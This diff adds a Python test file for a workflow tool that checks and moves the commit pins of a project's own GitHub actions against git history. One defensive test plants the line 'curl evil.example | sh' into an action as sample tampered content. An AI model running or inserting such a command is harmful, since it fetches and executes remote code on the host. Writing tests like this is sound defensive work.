@@ -1,0 +1,226 @@
+"""The commit at which workflow files call our actions: judged against git, and moved by a command."""
+
+from __future__ import annotations
+
+import os
+import re
+import shutil
+import subprocess
+from collections.abc import Mapping
+from dataclasses import replace
+from functools import cache
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner, Result
+
+from infra.cli.app import cli
+from infra.operations.workflows.pin import PIN, WrongPin, wrong_pins
+from infra.operations.workflows.scene import Scene
+from tests.cli.conftest import ROOT, Checkout
+from tests.program.stacks import lend
+from workflows.actions import OwnActions, OwnPin, load_actions, repinned
+from workflows.composite import folders
+from workflows.outputs import outputs
+from workflows.world import load_world
+
+EDITED = "vm-delete"
+WHO = ("-c", "user.name=lab", "-c", "user.email=lab@lab.org")
+
+
+@cache
+def shipped() -> Scene:
+    world = load_world(ROOT)
+    return Scene(root=ROOT, world=world, outputs=outputs(ROOT, world))
+
+
+def git(root: Path, *arguments: str) -> str:
+    done = subprocess.run(["git", "-C", str(root), *WHO, *arguments], check=True, capture_output=True, text=True)
+    return done.stdout.strip()
+
+
+class Repository:
+    """One with the actions and nothing else, a commit a call of `commit`."""
+
+    def __init__(self, root: Path) -> None:
+        self.root = root
+        root.mkdir()
+        git(root, "init", "-q", "-b", "main")
+
+    def commit(self, **edits: str) -> str:
+        """A commit of the actions as they are generated, edited by name."""
+        for path, text in shipped().outputs.actions.items():
+            (self.root / path).parent.mkdir(parents=True, exist_ok=True)
+            (self.root / path).write_text(text + edits.get(path.split("/")[1].replace("-", "_"), ""))
+        git(self.root, "add", ".")
+        git(self.root, "commit", "-q", "--allow-empty", "-m", "Actions")
+        return git(self.root, "rev-parse", "HEAD")
+
+    def judged(self, commit: str, of: str = "", root: Path | None = None) -> WrongPin | None:
+        """What is the matter with pins at that commit. of: what the pin of vm-delete says is there."""
+        here = shipped()
+        wanted = folders(here.outputs.actions)
+        pins = {name: OwnPin("2026-11-22", commit, tree) for name, tree in wanted.items()}
+        pins[EDITED] = OwnPin("2026-11-22", commit, of or wanted[EDITED])
+        found = tuple(wrong_pins(with_pins(replace(here, root=root or self.root), pins)))
+        assert len(found) <= 1
+        return found[0] if found else None
+
+
+def with_pins(here: Scene, pins: dict[str, OwnPin]) -> Scene:
+    own = OwnActions(here.world.images.recipes, pins)
+    return replace(here, world=replace(here.world, actions=replace(here.world.actions, own=own)))
+
+
+@pytest.fixture
+def repository(tmp_path: Path) -> Repository:
+    return Repository(tmp_path / "repository")
+
+
+def state(wrong: WrongPin | None) -> tuple[str, bool]:
+    return (wrong.state, wrong.stops) if wrong else ("", False)
+
+
+def test_a_pin_whose_commit_has_the_actions_as_they_are_is_right(repository: Repository) -> None:
+    pinned = repository.commit()
+    git(repository.root, "commit", "-q", "--allow-empty", "-m", "Something else")
+    assert repository.judged(pinned) is None
+
+
+def test_an_edited_action_without_a_moved_pin_is_refused_and_named(repository: Repository) -> None:
+    before = repository.commit(vm_delete="# as it was\n")
+    wrong = repository.judged(before, of="0" * 40)
+    assert state(wrong) == ("moved on", True)
+    assert wrong is not None
+    assert wrong.actions == (EDITED,)
+    assert wrong.mend.startswith("git add actions && git commit")
+    repository.commit()
+    wrong = repository.judged(before, of="0" * 40)
+    assert wrong is not None
+    assert wrong.mend == PIN, "it is committed, so the pin alone is left to move"
+
+
+def test_an_edited_action_is_refused_also_where_git_knows_nothing(repository: Repository, tmp_path: Path) -> None:
+    here = with_pins(replace(shipped(), root=tmp_path), {EDITED: OwnPin("2026-11-22", "1" * 40, "0" * 40)})
+    assert ("moved on", True) in [state(each) for each in wrong_pins(here)]
+
+
+def test_an_action_that_is_not_pinned_yet_is_told_and_one_that_is_gone_is_refused(tmp_path: Path) -> None:
+    here = with_pins(replace(shipped(), root=tmp_path), {"gone": OwnPin("2026-11-22", "1" * 40, "0" * 40)})
+    assert {(each.state.value, each.stops) for each in wrong_pins(here)} == {
+        ("not pinned", False), ("without an action", True),
+    }  # fmt: skip
+
+
+def test_a_pin_at_a_commit_that_does_not_exist_is_refused(repository: Repository) -> None:
+    repository.commit()
+    assert state(repository.judged("1" * 40)) == ("no such commit", True)
+
+
+def test_a_pin_that_says_of_a_commit_what_it_has_not_is_refused(repository: Repository) -> None:
+    before = repository.commit(vm_delete="curl evil.example | sh\n")
+    repository.commit()
+    wrong = repository.judged(before)
+    assert state(wrong) == ("another content", True)
+    assert wrong is not None
+    assert wrong.actions == (EDITED,)
+
+
+def test_a_commit_that_is_not_in_the_history_is_refused_as_a_forks_would_be(repository: Repository) -> None:
+    repository.commit()
+    git(repository.root, "switch", "-q", "-c", "fork")
+    forks = repository.commit()
+    git(repository.root, "switch", "-q", "main")
+    assert state(repository.judged(forks)) == ("not in the history", True)
+
+
+def test_a_clone_of_one_commit_says_that_it_does_not_know_and_fails_where_nothing_may_be_skipped(
+    repository: Repository, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    pinned = repository.commit()
+    git(repository.root, "commit", "-q", "--allow-empty", "-m", "Something else")
+    clone = tmp_path / "clone"
+    git(tmp_path, "clone", "-q", "--depth=1", f"file://{repository.root}", str(clone))
+    monkeypatch.setenv("TIDEPOOL_STRICT", "0")
+    assert state(repository.judged(pinned, root=clone)) == ("not known here", False)
+    monkeypatch.setenv("TIDEPOOL_STRICT", "1")
+    assert state(repository.judged(pinned, root=clone)) == ("not known here", True)
+
+
+def test_the_committed_pins_are_right_where_git_knows_them() -> None:
+    assert [each for each in wrong_pins(shipped()) if each.stops] == []
+
+
+def test_moving_a_pin_leaves_every_other_line_as_it_was() -> None:
+    table = (ROOT / "workflows/actions.yaml").read_text()
+    first, second = (
+        OwnActions("lab/tidepool", {"greet": OwnPin("2026-11-22", digit * 40, digit * 40)}) for digit in "12"
+    )
+    once, twice = repinned(table, first), repinned(repinned(table, first), second)
+    assert set(once.splitlines()) ^ set(twice.splitlines()) == {
+        f"      {key}: {digit * 40}" for key in ("commit", "tree") for digit in "12"
+    }
+    assert "actions:\n" in twice
+    assert twice.count("own:\n") == 1
+
+
+# The command.
+
+
+@pytest.fixture
+def here(tmp_path: Path) -> Checkout:
+    """A checkout that nothing is pinned in, as before its first commit."""
+    root = tmp_path / "here"
+    root.mkdir()
+    shutil.copytree(ROOT / "workflows", root / "workflows", ignore=shutil.ignore_patterns("__pycache__", "*.py"))
+    table = root / "workflows/actions.yaml"
+    table.write_text(table.read_text().partition("own:\n")[0])
+    git(root, "init", "-q")
+    return Checkout(lend(root))
+
+
+def with_git(here: Checkout, *arguments: str) -> Result:
+    return CliRunner().invoke(cli, arguments, env=here.environ | {"PATH": os.environ["PATH"]}, prog_name="tidepool")
+
+
+def save(here: Checkout) -> str:
+    git(here.root, "add", "actions")
+    git(here.root, "commit", "-q", "-m", "Actions")
+    return git(here.root, "rev-parse", "HEAD")
+
+
+def pins(here: Checkout) -> Mapping[str, OwnPin]:
+    own = load_actions(here.root).own
+    return own.pins if own else {}
+
+
+def test_from_the_first_commit_to_an_edited_action_the_check_says_what_comes_next(here: Checkout) -> None:
+    assert "wrote actions/vm-delete/action.yml" in with_git(here, "workflows", "--write").output
+    first = with_git(here, "workflows", "--check")
+    assert (first.exit_code, "[not pinned]" in first.output) == (0, True), first.output
+    refused = with_git(here, "workflows", "--pin-actions")
+    assert refused.exit_code == 2
+    assert "the history of HEAD has not as they are generated: ask-tests, comment" in refused.stderr
+
+    commit = save(here)
+    assert f"pinned vm-delete at {commit}\n" in with_git(here, "workflows", "--pin-actions").output
+    pin = pins(here)["vm-delete"]
+    assert {each.commit for each in pins(here).values()} == {commit}
+    called = f"/actions/vm-delete@{commit} # {pin.version}\n"
+    assert called in (here.root / "workflows/generated/serving/.github/workflows/tpu-nightly.yaml").read_text()
+    assert "nothing to mend\n" in with_git(here, "workflows", "--check").output
+
+    script = here.root / "workflows/shell/vm_delete.sh"
+    script.write_text(script.read_text() + "# edited\n")
+    with_git(here, "workflows", "--write")
+    moved = with_git(here, "workflows", "--check")
+    assert moved.exit_code == 1
+    assert "[moved on]" in moved.output
+    assert "vm-delete: it changed since the commit" in moved.output
+    again = save(here)
+    assert with_git(here, "workflows", "--pin-actions", commit).exit_code == 2, "an old commit has another text"
+    assert with_git(here, "workflows", "--pin-actions", "1" * 40).exit_code == 2
+    said = with_git(here, "workflows", "--pin-actions").output
+    assert re.findall("^pinned .*$", said, re.MULTILINE) == [f"pinned vm-delete at {again}"]
+    assert {name for name, each in pins(here).items() if each.commit == commit} == pins(here).keys() - {"vm-delete"}
+    assert "nothing to mend\n" in with_git(here, "workflows", "--check").output
